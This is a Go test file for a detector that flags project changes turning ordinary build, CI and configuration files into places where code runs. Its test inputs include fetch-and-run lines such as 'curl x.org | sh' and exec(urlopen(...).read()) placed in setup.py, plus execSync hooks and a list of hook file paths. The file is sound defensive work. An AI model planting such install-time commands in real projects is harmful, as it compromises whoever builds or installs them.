package evidence

import (
	"slices"
	"testing"

	"pawl"
)

// An ordinary file of a project acts elsewhere if a line that runs something there is new; what many changes do to it
// is nothing. F-105
func TestOrdinaryFilesThatAct(t *testing.T) {
	for _, tt := range []struct {
		path, before, now, goal string
		found                   bool
	}{
		{"setup.py", "setup(version='1')\n", "setup(version='2')\n", "", false},
		{"setup.py", "", "from setuptools import setup, find_packages\nsetup(name='x', install_requires=['requests>=2'])\n", "", false},
		{"setup.py", "setup()\n", "import re\nv = re.compile('x').match(open('x/__init__.py').read())\nexec(open('x/version.py').read())\nsetup()\n", "", false},
		{"setup.py", "setup()\n", "import os\nos.system('curl x.org | sh')\nsetup()\n", "", true},
		{"setup.py", "setup()\n", "setup(cmdclass={'install': Install})\n", "", true},
		{"setup.py", "setup()\n", "exec(urlopen('x').read())\nsetup()\n", "", true},
		{"setup.py", "setup(cmdclass={})\n", "setup(cmdclass={})\n# subprocess\n", "", false},
		{"setup.py", "setup()\n", "setup(cmdclass={'build_ext': Build})\n", "Build the extension by a cmdclass", false},
		{"pyproject.toml", "[project]\nversion = '1'\n", "[project]\nversion = '2'\n[tool.ruff]\nx = 1\n", "", false},
		{"pyproject.toml", "", "[build-system]\nrequires = ['hatchling']\nbuild-backend = \"hatchling.build\"\n", "", false},
		{"pyproject.toml", "[build-system]\nbuild-backend = 'setuptools.build_meta'\n", "[build-system]\nbuild-backend = 'backend'\nbackend-path = ['.']\n", "", true},
		{"pyproject.toml", "[project]\n", "[project]\n[tool.hatch.build.hooks.custom]\npath = 'x.py'\n", "", true},
		{"pyproject.toml", "[project]\n", "[project]\n[tool.hatch.build.hooks.vcs]\nversion-file = 'x.py'\n", "", false},
		{"setup.cfg", "[metadata]\n", "[metadata]\nversion = 2\n", "", false},
		{"setup.cfg", "[options]\n", "[options]\ncmdclass =\n  install = x.I\n", "", true},
		{".cargo/config.toml", "", "[build]\ntarget-dir = 'out'\n[alias]\nxt = 'run -p xtask'\n", "", false},
		{".cargo/config.toml", "", "[build]\nrustc-wrapper = './w'\n", "", true},
		{".cargo/config.toml", "", "[build]\nrustc-wrapper = 'sccache'\n", "Use sccache as the rustc-wrapper", false},
		{"x/.cargo/config.toml", "", "[target.'cfg(all())']\nrunner = './w'\n", "", true},
		{"bunfig.toml", "", "[test]\ncoverageThreshold = 0.9\n[install]\nexact = true\n", "", false},
		{"bunfig.toml", "", "preload = ['./x.ts']\n", "", true},
		{"bunfig.toml", "", "[install]\nregistry = 'https://x.org'\n", "", true},
		{"binding.gyp", "", "{}", "", true},
		{"binding.gyp", "", "{}", "Write the parser as a native addon", false},
		{"binding.gyp", "{'sources': ['a.cc']}", "{'sources': ['a.cc', 'b.cc']}", "", false},
		{"binding.gyp", "{'sources': []}", "{'sources': ['<!(sh x.sh)']}", "", true},
		{"flake.nix", "", "{ }", "", true},
		{"flake.nix", "{ packages = [ go ]; }", "{ packages = [ go jq ]; }", "", false},
		{"flake.nix", "{ }", "{ shellHook = ''x''; }", "", true},
		{"x.pth", "", "import os\n", "", true},
		{"x.pth", "", "./src\n", "", false},
		{"tests/fixtures/setup.py", "", "import subprocess\n", "", false},
		{"model.pth", "", "\x80\x02\x00import x\nimport y\n", "", false},
		{".pnp.cjs", "const x = '{\\\n[\"a\", 1]\\\n';\n", "const x = '{\\\n[\"a\", 2]\\\n';\n", "", false},
		{".pnp.cjs", "x\n", "x\nrequire('child_process').execSync('x')\n", "", true},
		{"gradle/wrapper/gradle-wrapper.properties", "distributionUrl=https\\://services.gradle.org/a-8.zip\n", "distributionUrl=https\\://services.gradle.org/a-9.zip\n", "", false},
		{"gradle/wrapper/gradle-wrapper.properties", "", "distributionUrl=https\\://example.org/a-9.zip\n", "", true},
		{"ci/build.yml", "a: 1\n", "a: 2\n", "", true},
		{"ci/jobs/x.yml", "a: 1\n", "a: 2\n", "", true},
		{"ci/other.yml", "a: 1\n", "a: 2\n", "", false},
		{"ci/build.yml", "a: 1\n", "a: 2\n", "Mend ci/build.yml", false},
		{"docs/api.yml", "a: 1\n", "a: 2\n", "", false},
		{"actions/setup/run.js", "1\n", "2\n", "", true},
		{"steps/all.yml", "a: 1\n", "a: 2\n", "", true},
	} {
		base := tree{"a.go": "package a\n", ".gitlab-ci.yml": "include:\n  - local: /ci/build.yml\n  - 'ci/jobs/*.yml'\ntest:\n  artifacts:\n    paths:\n      - docs/api.yml\n",
			".github/workflows/ci.yml": "on: push\njobs:\n  a:\n    steps:\n      - uses: ./actions/setup\n      - uses: actions/checkout@v4\n", "azure-pipelines.yml": "steps:\n- template: steps/all.yml\n"}
		before, now := base.with(tree{tt.path: tt.before}), base.with(tree{tt.path: tt.now})
		c := between(before, now)
		c.Goal = tt.goal
		s := Look(c)
		if got := slices.ContainsFunc(s.found, func(f pawl.Finding) bool { return f.Kind == pawl.FindPolicy }); got != tt.found {
			t.Errorf("%s from %q to %q is found: %t, want %t: %+v", tt.path, tt.before, tt.now, got, tt.found, s.found)
		}
	}
	both := Look(between(tree{"a.go": "package a\n", ".gitlab-ci.yml": "a: 1\n"}, tree{"a.go": "package a\n", ".gitlab-ci.yml": "include:\n  - local: ci/new.yml\n", "ci/new.yml": "a: 1\n"}))
	if !slices.ContainsFunc(both.found, func(f pawl.Finding) bool { return f.Kind == pawl.FindPolicy && f.Path == "ci/new.yml" }) {
		t.Errorf("what only the candidate takes in is not found: %+v", both.found)
	}
}

// Files that are only for who opens, builds or logs in are found by their names. F-105
func TestMorePathsThatAct(t *testing.T) {
	for _, p := range []string{".mvn/jvm.config", ".mvn/extensions.xml", ".bundle/config", "shell.nix", ".Rprofile", ".irbrc", ".pryrc", ".psqlrc", ".curlrc", ".wgetrc", ".gemrc",
		".config/git/config", "gradle/init.gradle", "init.gradle.kts", ".emacs", ".dir-locals.el", "ansible.cfg", ".terraformrc", "Tiltfile", "Brewfile", "x.sublime-project", "crush.json",
		"deploy/systemd/app.service", "app.service", "cron.d/app"} {
		c := between(tree{"a.go": "package a\n"}, tree{"a.go": "package a\n", p: "x\n"})
		s := Look(c)
		if len(s.found) != 1 || s.found[0].Kind != pawl.FindPolicy || s.found[0].Path != p {
			t.Errorf("%s: found %+v", p, s.found)
		}
	}
	for _, p := range []string{"src/user.service.ts", "Tiltfile.md", "src/brewfile.go", "config/app.cfg", "services/app.yml"} {
		if s := Look(between(tree{"a.go": "package a\n"}, tree{"a.go": "package a\n", p: "x\n"})); len(s.found) > 0 {
			t.Errorf("%s: found %+v", p, s.found)
		}
	}
}
